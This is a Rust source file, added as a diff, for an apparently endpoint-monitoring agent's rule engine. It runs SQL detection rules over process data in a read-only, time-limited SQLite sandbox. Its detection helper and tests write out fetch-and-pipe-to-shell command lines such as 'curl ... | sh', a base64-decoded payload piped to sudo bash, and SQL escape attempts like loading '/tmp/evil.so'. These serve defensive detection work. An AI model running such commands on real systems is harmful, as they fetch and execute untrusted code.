@@ -1,0 +1,627 @@
+//! Running rules: every rule over a batch of processes, read-only, bounded.
+//!
+//! The engine owns an in-memory SQLite database with one table,
+//! `processes`. For each batch it fills the table with the batch's rows
+//! (as itself, with full rights) and then runs every rule under an
+//! authorizer that allows only reading: a rule cannot write, `ATTACH`, run a
+//! `PRAGMA` or load an extension, and each rule is interrupted after
+//! [`RULE_TIME_LIMIT`]. Rules never see the agent's own store.
+//!
+//! # The `processes` table
+//!
+//! | column | type | meaning |
+//! |---|---|---|
+//! | `process_key` | TEXT | `boot_id:pid:start_ticks`, stable across PID reuse |
+//! | `pid`, `ppid` | INTEGER | |
+//! | `name` | TEXT | `comm` |
+//! | `exe`, `exe_name`, `exe_dir` | TEXT | executable path, its file name, its directory |
+//! | `argv` | TEXT | JSON array |
+//! | `cmdline` | TEXT | argv joined by spaces |
+//! | `uid`, `euid` | INTEGER | real and effective user |
+//! | `start_time`, `observed_at` | INTEGER | unix nanoseconds |
+//! | `exe_deleted`, `exe_replaced`, `file_exists`, `accessible` | INTEGER | 0/1 |
+//! | `exe_dir_user_writable` | INTEGER | 0/1: the executable's directory is writable by a non-root user (NULL: unknown) |
+//! | `parent_name`, `parent_exe`, `parent_cmdline` | TEXT | the parent's, when known |
+//! | `event_type` | TEXT | `snapshot`, `exec`, `exit`, `pid_reused`, ... |
+//! | `exe_hash` | TEXT | lowercase hex SHA-256 of the executable |
+//! | `container_id` | TEXT | |
+//! | `pipes_to_interpreter` | INTEGER | 0/1: the command line pipes into a shell or script interpreter (`... \| sh`, `\| sudo bash`, `\| python3 -`) |
+
+use std::sync::{Arc, Mutex, PoisonError};
+use std::time::{Duration, SystemTime};
+
+use collector_core::ProcessEvent;
+use rusqlite::hooks::{AuthAction, AuthContext, Authorization};
+use rusqlite::{params, Connection};
+use serde::Serialize;
+use tokio::time::Instant;
+
+use crate::rules::{Rule, RuleError};
+
+/// The longest one rule may run over one batch.
+pub const RULE_TIME_LIMIT: Duration = Duration::from_millis(250);
+
+const SCHEMA: &str = "CREATE TABLE processes (
+    process_key TEXT, pid INTEGER NOT NULL, ppid INTEGER, name TEXT NOT NULL,
+    exe TEXT, exe_name TEXT, exe_dir TEXT, argv TEXT NOT NULL, cmdline TEXT NOT NULL,
+    uid INTEGER, euid INTEGER, start_time INTEGER, observed_at INTEGER,
+    exe_deleted INTEGER NOT NULL, exe_replaced INTEGER NOT NULL, file_exists INTEGER NOT NULL,
+    accessible INTEGER NOT NULL, exe_dir_user_writable INTEGER,
+    parent_name TEXT, parent_exe TEXT, parent_cmdline TEXT,
+    event_type TEXT NOT NULL, exe_hash TEXT, container_id TEXT,
+    pipes_to_interpreter INTEGER NOT NULL
+)";
+
+const INSERT: &str = "INSERT INTO processes VALUES
+    (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, ?10, ?11, ?12, ?13, ?14, ?15, ?16, ?17, ?18, ?19, ?20, ?21, ?22, ?23, ?24, ?25)";
+
+/// One process as the rules see it (its fields are the table's columns, so
+/// the flags stay plain bools).
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+#[allow(clippy::struct_excessive_bools)]
+pub struct ProcessRow {
+    /// `boot_id:pid:start_ticks`.
+    pub process_key: Option<String>,
+    /// Process id.
+    pub pid: u32,
+    /// Parent id.
+    pub ppid: Option<u32>,
+    /// `comm`.
+    pub name: String,
+    /// Executable path.
+    pub exe: Option<String>,
+    /// Arguments.
+    pub argv: Vec<String>,
+    /// Real uid.
+    pub uid: Option<u32>,
+    /// Effective uid.
+    pub euid: Option<u32>,
+    /// Start, unix ns.
+    pub start_time: Option<i64>,
+    /// Observation time, unix ns.
+    pub observed_at: Option<i64>,
+    /// The executable was deleted while running.
+    pub exe_deleted: bool,
+    /// The file at the executable's path is not the one running.
+    pub exe_replaced: bool,
+    /// The executable exists on disk.
+    pub file_exists: bool,
+    /// Everything about the process could be read.
+    pub accessible: bool,
+    /// The executable's directory is writable by a non-root user.
+    pub exe_dir_user_writable: Option<bool>,
+    /// The parent's `comm`.
+    pub parent_name: Option<String>,
+    /// The parent's executable.
+    pub parent_exe: Option<String>,
+    /// The parent's argv, joined.
+    pub parent_cmdline: Option<String>,
+    /// What the event reported (`exec`, `snapshot`, ...).
+    pub event_type: String,
+    /// SHA-256 of the executable.
+    pub exe_hash: Option<String>,
+    /// Container id.
+    pub container_id: Option<String>,
+}
+
+fn unix_ns(t: SystemTime) -> Option<i64> {
+    i64::try_from(t.duration_since(SystemTime::UNIX_EPOCH).ok()?.as_nanos()).ok()
+}
+
+impl ProcessRow {
+    /// The row for `e`, with what is known of its parent.
+    pub fn from_event(
+        e: &ProcessEvent,
+        parent: Option<&ProcessEvent>,
+        exe_dir_user_writable: Option<bool>,
+    ) -> Self {
+        let meta = |k: &str| e.platform_metadata.get(k);
+        Self {
+            process_key: e.process_key.map(|k| k.to_string()),
+            pid: e.pid,
+            ppid: e.ppid,
+            name: e.name.clone(),
+            exe: e.executable_path.clone(),
+            argv: e.command_line.clone(),
+            uid: e.user_id,
+            euid: meta("euid").and_then(|v| v.parse().ok()),
+            start_time: e.start_time.and_then(unix_ns),
+            observed_at: unix_ns(e.timestamp),
+            exe_deleted: meta("exe_deleted").is_some()
+                || e.event_type == collector_core::ProcessEventType::ExecutableDeleted,
+            exe_replaced: meta("exe_replaced").is_some(),
+            file_exists: e.file_exists,
+            accessible: e.accessible,
+            exe_dir_user_writable,
+            parent_name: parent.map(|p| p.name.clone()),
+            parent_exe: parent.and_then(|p| p.executable_path.clone()),
+            parent_cmdline: parent.map(|p| p.command_line.join(" ")),
+            event_type: e.event_type.as_str().to_owned(),
+            exe_hash: e.executable_hash.clone(),
+            container_id: meta("container_id").cloned(),
+        }
+    }
+}
+
+/// A rule matched a process.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Match {
+    /// The rule.
+    pub rule_id: String,
+    /// The process's pid (from the rule's `pid` column).
+    pub pid: u32,
+    /// The process's key, when the rule returned `process_key`.
+    pub process_key: Option<String>,
+}
+
+/// The engine itself failed (not a rule).
+#[derive(Debug, thiserror::Error)]
+#[non_exhaustive]
+pub enum EngineError {
+    /// SQLite failed outside any rule.
+    #[error("rule engine database error")]
+    Sqlite(#[from] rusqlite::Error),
+}
+
+/// Counters of the engine.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
+pub struct EngineStats {
+    /// Batches evaluated.
+    pub batches: u64,
+    /// Rule runs.
+    pub rule_runs: u64,
+    /// Matches found.
+    pub matches: u64,
+    /// Rule runs that failed (error or time limit).
+    pub rule_failures: u64,
+    /// Rule runs interrupted at the time limit.
+    pub rule_timeouts: u64,
+}
+
+/// Denials recorded by the authorizer, for a clear refusal message.
+type Denied = Arc<Mutex<Option<String>>>;
+
+fn read_only_authorizer(
+    denied: Denied,
+) -> impl for<'r> FnMut(AuthContext<'r>) -> Authorization + Send + 'static {
+    move |ctx: AuthContext<'_>| {
+        let verdict = match ctx.action {
+            AuthAction::Select | AuthAction::Read { .. } | AuthAction::Recursive => None,
+            AuthAction::Function { function_name } => {
+                let f = function_name.to_ascii_lowercase();
+                // Everything that touches files, extensions or settings.
+                (f == "load_extension" || f.starts_with("sqlite_") || f == "fts3_tokenizer")
+                    .then(|| format!("function {function_name}()"))
+            }
+            AuthAction::Attach { .. } => Some("ATTACH".to_owned()),
+            AuthAction::Pragma { pragma_name, .. } => Some(format!("PRAGMA {pragma_name}")),
+            AuthAction::Insert { table_name }
+            | AuthAction::Update { table_name, .. }
+            | AuthAction::Delete { table_name } => Some(format!("writing to {table_name}")),
+            AuthAction::Transaction { .. } | AuthAction::Savepoint { .. } => {
+                Some("transactions".to_owned())
+            }
+            _ => Some("schema changes".to_owned()),
+        };
+        match verdict {
+            None => Authorization::Allow,
+            Some(what) => {
+                *denied.lock().unwrap_or_else(PoisonError::into_inner) = Some(what);
+                Authorization::Deny
+            }
+        }
+    }
+}
+
+fn open_schema() -> Result<Connection, rusqlite::Error> {
+    let conn = Connection::open_in_memory()?;
+    conn.execute_batch(SCHEMA)?;
+    Ok(conn)
+}
+
+/// Compiles `rule` first as plain SQL on `plain` (one statement, valid
+/// syntax), then against the schema under the read-only authorizer.
+fn check_sql(
+    plain: &Connection,
+    conn: &Connection,
+    denied: &Denied,
+    rule: &Rule,
+) -> Result<(), RuleError> {
+    let refuse = |reason: String| RuleError {
+        origin: rule.origin.clone(),
+        rule: rule.id.clone(),
+        reason,
+    };
+    if let Err(rusqlite::Error::MultipleStatement) = plain.prepare(&rule.sql) {
+        return Err(refuse("more than one statement".to_owned()));
+    }
+    *denied.lock().unwrap_or_else(PoisonError::into_inner) = None;
+    let stmt = conn.prepare(&rule.sql).map_err(|e| {
+        let what = denied.lock().unwrap_or_else(PoisonError::into_inner).take();
+        match (e, what) {
+            (_, Some(what)) => refuse(format!("only reading is allowed; refused: {what}")),
+            (rusqlite::Error::MultipleStatement, None) => {
+                refuse("more than one statement".to_owned())
+            }
+            (e, None) => refuse(format!("invalid SQL: {e}")),
+        }
+    })?;
+    if !stmt.readonly() {
+        return Err(refuse("only reading is allowed".to_owned()));
+    }
+    if !stmt.column_names().contains(&"pid") {
+        return Err(refuse("the SELECT must return a `pid` column".to_owned()));
+    }
+    Ok(())
+}
+
+/// Checks one rule's fields and SQL without running it: the verdict
+/// `daemoneye-cli rules validate` gives.
+///
+/// # Errors
+/// Why the rule is refused.
+pub fn validate(rule: &Rule) -> Result<(), RuleError> {
+    crate::rules::check_fields(rule)?;
+    let conn = open_schema().map_err(|e| RuleError {
+        origin: rule.origin.clone(),
+        rule: rule.id.clone(),
+        reason: format!("engine unavailable: {e}"),
+    })?;
+    let plain = open_schema().map_err(|e| RuleError {
+        origin: rule.origin.clone(),
+        rule: rule.id.clone(),
+        reason: format!("engine unavailable: {e}"),
+    })?;
+    let denied = Denied::default();
+    conn.authorizer(Some(read_only_authorizer(denied.clone())));
+    check_sql(&plain, &conn, &denied, rule)
+}
+
+/// Runs rules over batches of processes.
+pub struct RuleEngine {
+    conn: Connection,
+    rules: Vec<Rule>,
+    refused: Vec<RuleError>,
+    denied: Denied,
+    deadline: Arc<Mutex<Option<Instant>>>,
+    stats: EngineStats,
+}
+
+impl std::fmt::Debug for RuleEngine {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("RuleEngine")
+            .field("rules", &self.rules.len())
+            .field("refused", &self.refused.len())
+            .finish_non_exhaustive()
+    }
+}
+
+impl RuleEngine {
+    /// An engine with every acceptable rule of `rules`; the others are
+    /// refused (see [`refused`](Self::refused)), duplicates of an id too.
+    ///
+    /// # Errors
+    /// Only when SQLite itself cannot start.
+    pub fn new(rules: Vec<Rule>) -> Result<Self, EngineError> {
+        let conn = open_schema()?;
+        let plain = open_schema()?;
+        let denied = Denied::default();
+        conn.authorizer(Some(read_only_authorizer(denied.clone())));
+        let mut kept: Vec<Rule> = Vec::with_capacity(rules.len());
+        let mut refused = Vec::new();
+        for rule in rules {
+            let verdict = crate::rules::check_fields(&rule)
+                .and_then(|()| check_sql(&plain, &conn, &denied, &rule));
+            match verdict {
+                Err(e) => refused.push(e),
+                Ok(()) if kept.iter().any(|r| r.id == rule.id) => refused.push(RuleError {
+                    origin: rule.origin.clone(),
+                    rule: rule.id.clone(),
+                    reason: "duplicate rule id".to_owned(),
+                }),
+                Ok(()) => kept.push(rule),
+            }
+        }
+        conn.authorizer(None::<fn(AuthContext<'_>) -> Authorization>);
+        let deadline: Arc<Mutex<Option<Instant>>> = Arc::default();
+        let d = deadline.clone();
+        conn.progress_handler(
+            1000,
+            Some(move || {
+                d.lock()
+                    .unwrap_or_else(PoisonError::into_inner)
+                    .is_some_and(|until| Instant::now() >= until)
+            }),
+        );
+        Ok(Self {
+            conn,
+            rules: kept,
+            refused,
+            denied,
+            deadline,
+            stats: EngineStats::default(),
+        })
+    }
+
+    /// The rules in force.
+    pub fn rules(&self) -> &[Rule] {
+        &self.rules
+    }
+
+    /// The rules refused at load, with their reasons.
+    pub fn refused(&self) -> &[RuleError] {
+        &self.refused
+    }
+
+    /// Counters so far.
+    pub fn stats(&self) -> EngineStats {
+        self.stats
+    }
+
+    /// Runs every rule over `rows`. A rule that fails or overruns its time
+    /// limit is counted and skipped; the others still run.
+    ///
+    /// # Errors
+    /// Only when the batch cannot be loaded into the engine's database.
+    pub fn evaluate(&mut self, rows: &[ProcessRow]) -> Result<Vec<Match>, EngineError> {
+        self.load(rows)?;
+        self.stats.batches += 1;
+        self.conn
+            .authorizer(Some(read_only_authorizer(self.denied.clone())));
+        let mut out = Vec::new();
+        for rule in &self.rules {
+            self.stats.rule_runs += 1;
+            *self.deadline.lock().unwrap_or_else(PoisonError::into_inner) =
+                Some(Instant::now() + RULE_TIME_LIMIT);
+            match run_rule(&self.conn, rule) {
+                Ok(found) => {
+                    self.stats.matches += found.len() as u64;
+                    out.extend(found);
+                }
+                Err(err) => {
+                    self.stats.rule_failures += 1;
+                    if matches!(&err, rusqlite::Error::SqliteFailure(e, _) if e.code == rusqlite::ErrorCode::OperationInterrupted)
+                    {
+                        self.stats.rule_timeouts += 1;
+                    }
+                    tracing::warn!(rule = %rule.id, error = %err, "rule failed; skipped for this batch");
+                }
+            }
+        }
+        *self.deadline.lock().unwrap_or_else(PoisonError::into_inner) = None;
+        self.conn
+            .authorizer(None::<fn(AuthContext<'_>) -> Authorization>);
+        Ok(out)
+    }
+
+    fn load(&mut self, rows: &[ProcessRow]) -> Result<(), rusqlite::Error> {
+        let tx = self.conn.transaction()?;
+        tx.execute("DELETE FROM processes", [])?;
+        {
+            let mut insert = tx.prepare_cached(INSERT)?;
+            for r in rows {
+                let argv = serde_json::to_string(&r.argv).unwrap_or_else(|_| "[]".to_owned());
+                let (exe_name, exe_dir) = match r.exe.as_deref().and_then(|e| e.rsplit_once('/')) {
+                    Some((dir, name)) => (Some(name), Some(if dir.is_empty() { "/" } else { dir })),
+                    None => (None, None),
+                };
+                insert.execute(params![
+                    r.process_key,
+                    r.pid,
+                    r.ppid,
+                    r.name,
+                    r.exe,
+                    exe_name,
+                    exe_dir,
+                    argv,
+                    r.argv.join(" "),
+                    r.uid,
+                    r.euid,
+                    r.start_time,
+                    r.observed_at,
+                    r.exe_deleted,
+                    r.exe_replaced,
+                    r.file_exists,
+                    r.accessible,
+                    r.exe_dir_user_writable,
+                    r.parent_name,
+                    r.parent_exe,
+                    r.parent_cmdline,
+                    r.event_type,
+                    r.exe_hash,
+                    r.container_id,
+                    pipes_to_interpreter(&r.argv),
+                ])?;
+            }
+        }
+        tx.commit()
+    }
+}
+
+/// Interpreters a downloaded or decoded payload is piped into.
+const INTERPRETERS: &[&str] = &[
+    "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "python", "python2", "python3", "perl",
+    "ruby", "php", "node",
+];
+
+/// Whether a command line pipes into a shell or interpreter: a `|` followed
+/// (after `sudo`, `env` and options) by a word whose file name is one of
+/// [`INTERPRETERS`] (`| sh`, `|bash -s`, `| sudo /bin/bash`, `| python3.11 -`).
+pub fn pipes_to_interpreter(argv: &[String]) -> bool {
+    let line = argv.join(" ");
+    line.split('|').skip(1).any(|segment| {
+        segment
+            .split_whitespace()
+            .find(|w| !matches!(*w, "sudo" | "env" | "-E") && !w.starts_with('-'))
+            .map(|w| w.rsplit('/').next().unwrap_or(w))
+            .is_some_and(|name| {
+                let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+                INTERPRETERS.contains(&name) || INTERPRETERS.contains(&base)
+            })
+    })
+}
+
+fn run_rule(conn: &Connection, rule: &Rule) -> Result<Vec<Match>, rusqlite::Error> {
+    let mut stmt = conn.prepare_cached(&rule.sql)?;
+    let names: Vec<String> = stmt
+        .column_names()
+        .iter()
+        .map(|s| (*s).to_owned())
+        .collect();
+    let pid_at = names.iter().position(|n| n == "pid");
+    let key_at = names.iter().position(|n| n == "process_key");
+    let mut rows = stmt.query([])?;
+    let mut out = Vec::new();
+    while let Some(row) = rows.next()? {
+        let Some(pid) = pid_at.and_then(|i| row.get::<_, Option<u32>>(i).ok().flatten()) else {
+            continue;
+        };
+        let process_key = key_at.and_then(|i| row.get::<_, Option<String>>(i).ok().flatten());
+        out.push(Match {
+            rule_id: rule.id.clone(),
+            pid,
+            process_key,
+        });
+    }
+    Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+
+    use super::*;
+    use crate::rules::Severity;
+
+    fn rule(id: &str, sql: &str) -> Rule {
+        Rule {
+            id: id.to_owned(),
+            name: id.to_owned(),
+            description: String::new(),
+            severity: Severity::High,
+            sql: sql.to_owned(),
+            tags: Vec::new(),
+            mitre: Vec::new(),
+            origin: "test.toml".to_owned(),
+        }
+    }
+
+    #[test]
+    fn writes_attach_pragma_extensions_and_stacked_statements_are_refused() {
+        let cases = [
+            (
+                "INSERT INTO processes (pid, name) VALUES (1, 'x')",
+                "writing to processes",
+            ),
+            ("DELETE FROM processes", "writing to processes"),
+            ("UPDATE processes SET name = 'x'", "writing to processes"),
+            ("ATTACH DATABASE '/tmp/x.db' AS x", "ATTACH"),
+            ("PRAGMA writable_schema = 1", "PRAGMA"),
+            (
+                "SELECT load_extension('/tmp/evil.so') AS pid",
+                "load_extension",
+            ),
+            (
+                "SELECT pid FROM processes; DELETE FROM processes",
+                "more than one statement",
+            ),
+            ("DROP TABLE processes", "only reading is allowed"),
+            ("SELEC pid FROM processes", "invalid SQL"),
+            ("SELECT name FROM processes", "`pid` column"),
+            ("SELECT pid FROM nowhere", "invalid SQL"),
+        ];
+        for (sql, why) in cases {
+            let err = validate(&rule("r", sql)).unwrap_err();
+            assert!(err.reason.contains(why), "{sql}: {err}");
+            assert_eq!((err.origin.as_str(), err.rule.as_str()), ("test.toml", "r"));
+        }
+        validate(&rule(
+            "ok",
+            "SELECT pid, name FROM processes WHERE exe LIKE '/tmp/%'",
+        ))
+        .unwrap();
+    }
+
+    #[test]
+    fn a_refused_rule_leaves_the_others_running() {
+        let mut engine = RuleEngine::new(vec![
+            rule("bad", "DELETE FROM processes"),
+            rule(
+                "tmp",
+                "SELECT pid, process_key FROM processes WHERE exe_dir = '/tmp'",
+            ),
+            rule("tmp", "SELECT pid FROM processes"),
+        ])
+        .unwrap();
+        assert_eq!(engine.rules().len(), 1);
+        assert_eq!(engine.refused().len(), 2);
+        assert!(engine.refused()[1].reason.contains("duplicate"));
+        let rows = [
+            ProcessRow {
+                pid: 7,
+                process_key: Some("k7".into()),
+                name: "x".into(),
+                exe: Some("/tmp/x".into()),
+                ..ProcessRow::default()
+            },
+            ProcessRow {
+                pid: 8,
+                name: "ls".into(),
+                exe: Some("/usr/bin/ls".into()),
+                ..ProcessRow::default()
+            },
+        ];
+        let m = engine.evaluate(&rows).unwrap();
+        assert_eq!(
+            m,
+            vec![Match {
+                rule_id: "tmp".into(),
+                pid: 7,
+                process_key: Some("k7".into())
+            }]
+        );
+        // The table holds only the current batch.
+        assert!(engine.evaluate(&rows[1..]).unwrap().is_empty());
+    }
+
+    #[test]
+    fn pipes_into_interpreters_are_told_from_other_pipes() {
+        let yes = |s: &str| pipes_to_interpreter(&[s.to_owned()]);
+        for s in [
+            "curl -fsSL http://x/i.sh | sh",
+            "wget -qO- http://x |bash -s -- --flag",
+            "echo aGk= | base64 -d | sudo /bin/bash",
+            "curl x | python3.11 -",
+            "curl x | env sh",
+        ] {
+            assert!(yes(s), "{s}");
+        }
+        for s in [
+            "curl -s https://api | jq .sha",
+            "cat f | sha256sum",
+            "ls | sort | shuf",
+            "bash -c 'echo hi'",
+        ] {
+            assert!(!yes(s), "{s}");
+        }
+    }
+
+    #[test]
+    fn a_runaway_rule_is_interrupted_and_counted() {
+        let slow = rule(
+            "slow",
+            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i AS pid FROM n WHERE i < 0",
+        );
+        let mut engine =
+            RuleEngine::new(vec![slow, rule("all", "SELECT pid FROM processes")]).unwrap();
+        let rows = [ProcessRow {
+            pid: 1,
+            name: "init".into(),
+            ..ProcessRow::default()
+        }];
+        let m = engine.evaluate(&rows).unwrap();
+        assert_eq!(m.len(), 1, "the other rule still ran");
+        let s = engine.stats();
+        assert_eq!((s.rule_failures, s.rule_timeouts), (1, 1));
+    }
+}
